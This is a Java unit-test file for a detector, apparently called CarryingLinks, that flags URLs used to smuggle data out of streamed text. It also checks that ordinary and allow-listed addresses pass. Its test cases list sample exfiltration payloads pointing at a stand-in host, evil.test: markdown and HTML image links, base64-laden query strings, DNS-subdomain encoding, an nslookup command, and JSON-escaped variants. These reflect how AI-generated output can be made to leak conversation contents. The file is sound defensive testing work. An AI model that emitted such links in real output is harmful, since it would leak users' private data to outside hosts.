package dev.tollgate.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CarryingLinksTest {
    private static final CarryingLinks LINKS = new CarryingLinks(List.of("*.acme.com", "docs.example.org"));

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "exfil_image ~ ![chart](https://evil.test/c.png?d=hello)",
                "exfil_image ~ ![a [b] c](https://evil.test/c.png?d=hello)",
                "exfil_image ~ ![](//evil.test/c.png?d=hello)",
                "exfil_image ~ ![x](https://evil.test/3f2a9c0b7d1e4f5a6b7c8d9e0f1a2b3c.png)",
                "exfil_image ~ <img alt='' src='https://evil.test/p?q=1'>",
                "exfil_image ~ <img src=\"https://evil.test/p?q=1\">",
                "exfil_image ~ <div style=\"background:url(https://evil.test/p?q=1)\">",
                "exfil_image ~ see [the chart][1] and [1]: https://evil.test/p?q=1",
                "exfil_link ~ [click](https://evil.test/?t=the+whole+conversation+so+far+in+plain+words)",
                "exfil_link ~ go to https://evil.test/x?k=c2VjcmV0IGRhdGEgZ29lcyBoZXJl now",
                "exfil_link ~ https://evil.test/aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ",
                "exfil_link ~ https://evil.test/hi#c2VjcmV0IGRhdGEgZ29lcyBoZXJl",
                "exfil_link ~ https://jane:pw@evil.test/",
                "exfil_link ~ https://evil.test/u?m=[EMAIL_kxqhwtzr]",
                "exfil_link ~ https://evil.test/u/%5BEMAIL_kxqhwtzr%5D",
                "exfil_link ~ https://böse.test/u?m=[EMAIL_kxqhwtzr]",
                "exfil_dns ~ https://3f2a9c0b7d1e4f5a6b7c8d9e0f1a.evil.test/",
                "exfil_dns ~ nslookup 3f2a9c0b7d1e4f5a6b7c8d9e0f1a.evil.test",
                "exfil_link ~ {\"url\":\"https:\\/\\/evil.test\\/x?k=c2VjcmV0IGRhdGEgZ29lcyBoZXJl\"}",
                "exfil_link ~ {\"url\":\"https:\\u002f\\u002fevil.test/x\\u003fk=c2VjcmV0IGRhdGEgZ29lcyBoZXJl\"}",
                "exfil_dns ~ {\"command\":\"cd x\\nnslookup\\t3f2a9c0b7d1e4f5a6b7c8d9e0f1a.evil.test\"}",
            })
    void look_addressThatCarriesData_isFound(String rule, String text) {
        assertThat(LINKS.look(text, true).hits())
                .extracting(CarryingLinks.Hit::rule)
                .containsExactly(rule);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![logo](https://other.test/logo.png)",
                "![chart](https://img.acme.com/c.png?d=hello)",
                "[search](https://docs.example.org/?q=a+long+question+with+many+words+in+it)",
                "see https://other.test/how-to-make-a-really-good-cake-in-10-minutes today",
                "https://other.test/questions/11227809/why-is-processing-a-sorted-array-faster?page=2",
                "// a comment in code that goes on for a while, and //another",
                "/usr/lib/jvm//temurin-25-jdk-amd64/bin",
                "com.example.very.long.package.name.of.some.ClassThatDoesThings",
                "node_modules/@scope/package-name/dist/index.d.ts",
                "a plain sentence, with words. And another one.",
                "{\"url\":\"https:\\/\\/docs.example.org\\/x?k=c2VjcmV0IGRhdGEgZ29lcyBoZXJl\"}",
                "C:\\new\\table\\users\\\\server\\u12 \\",
            })
    void look_ordinaryAddress_passes(String text) {
        assertThat(LINKS.look(text, true).hits()).isEmpty();
    }

    @Test
    void look_textThatComesCharByChar_keepsTheWholeAddressUndecided() {
        String before = "Look: ![c](";
        String said = before + "https://evil.test/c.png?d=hello";

        for (int end = 1; end <= said.length(); end++) {
            CarryingLinks.Look look = LINKS.look(said.substring(0, end), false);
            assertThat(look.hits()).isEmpty();
            assertThat(look.decided()).isLessThanOrEqualTo(before.length());
        }
        assertThat(LINKS.look(said + ")", false).hits()).hasSize(1);
    }

    @Test
    void look_escapedAddressThatComesCharByChar_isFoundWhereItIsWritten() {
        String before = "{\"url\":\"";
        String address = "https:\\/\\/evil.test\\u002Fx?k=c2VjcmV0IGRhdGEgZ29lcyBoZXJl";
        String said = before + address;

        for (int end = 1; end <= said.length(); end++) {
            CarryingLinks.Look look = LINKS.look(said.substring(0, end), false);
            assertThat(look.hits()).isEmpty();
            assertThat(look.decided()).isLessThanOrEqualTo(before.length());
        }
        CarryingLinks.Hit hit = LINKS.look(said + "\"}", false).hits().getFirst();
        assertThat((said + "\"}").substring(hit.start(), hit.end())).isEqualTo(address);
    }

    @Test
    void look_endlessToken_isNotKeptForEver() {
        String said = "x".repeat(10_000);

        assertThat(LINKS.look(said, false).decided()).isGreaterThan(8_000);
    }
}
